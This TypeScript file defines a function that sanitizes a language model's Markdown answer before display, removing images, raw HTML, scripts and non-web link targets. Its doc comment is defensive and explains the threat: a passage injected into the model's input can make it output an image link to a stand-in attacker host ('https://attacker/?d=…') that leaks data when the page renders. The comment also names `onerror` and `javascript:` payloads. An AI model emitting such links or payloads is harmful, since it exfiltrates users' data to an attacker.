/**
 * Makes a language model's Markdown safe to hand to any client, whatever it was told by a passage:
 * - images are removed (`![pixel](https://attacker/?d=…)` would send data out as the page renders it),
 *   inline, reference-style and their definitions alike;
 * - raw HTML tags and comments are removed (`<img onerror>`, `<a href>`), their text is kept as plain
 *   text, except inside `<script>` and `<style>`, which go with their content (it was never text); an opening `<` left without its `>` (a tag cut at a sentence end) is followed by a
 *   space, so two pieces can never join into a tag;
 * - links whose target is not `http:` or `https:` (`javascript:`, `data:`, `vbscript:`, relative) keep
 *   their text and lose their target; `<https://…>` autolinks become the bare address.
 * Citation markers `[n]` and all other text pass unchanged. Every pattern is bounded by a delimiter it may
 * not cross, so the time is linear in the text's length. Safe to call per sentence and on the whole answer.
 */
export function sanitizeModelText(text: string): string {
  return (
    text
      // Autolinks first, or the tag rule below would take them: keep http(s) addresses, drop the rest.
      .replace(/<((?:https?):\/\/[^\s<>]+)>/gi, "$1")
      // HTML comments, CDATA, doctypes and processing instructions.
      .replace(/<!--[\s\S]*?-->|<!\[CDATA\[[\s\S]*?\]\]>|<[!?][^<>]*>/g, "")
      // Script and style elements, content and all: their content is code, not text to show.
      .replace(/<(script|style)\b[^<>]*>[^<]*(?:<(?!\/\1\s*>)[^<]*)*<\/\1\s*>/gi, "")
      // Tags: a name after < or </, then anything but another bracket up to >.
      .replace(/<\/?[A-Za-z][^<>]*>/g, "")
      // What remains of a tag that was cut (no closing >): "< " can never open one ("a<b" reads "a< b").
      .replace(/<(?=[A-Za-z/!?])/g, "< ")
      // Images: inline ![alt](target "title") and reference-style ![alt][ref] / ![alt][].
      .replace(/!\[(?:[^[\]\n]|\[[^[\]\n]*\])*\](?:\([^()\n]*(?:\([^()\n]*\)[^()\n]*)*\)|\[[^[\]\n]*\])/g, "")
      // Link reference definitions ("[ref]: target") whose target is not http(s): removed with their line.
      .replace(/^ {0,3}\[[^[\]\n]+\]:[ \t]*<?(\S*?)>?(?:[ \t].*)?$\n?/gm, (whole, target: string) => (isWebAddress(target) ? whole : ""))
      // Inline links [text](target "title"): a target that is not http(s) is dropped, the text stays.
      .replace(/\[((?:[^[\]\n]|\[[^[\]\n]*\])*)\]\(\s*<?([^()\s<>]*(?:\([^()\s]*\)[^()\s<>]*)*)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)/g, (whole, label: string, target: string) =>
        isWebAddress(target) ? whole : label,
      )
      // The gaps left where something was removed (indentation at a line's start is Markdown's, kept).
      .replace(/(\S)[ \t]{2,}/g, "$1 ")
  );
}

function isWebAddress(target: string): boolean {
  return /^https?:\/\/[^\s]/i.test(target);
}
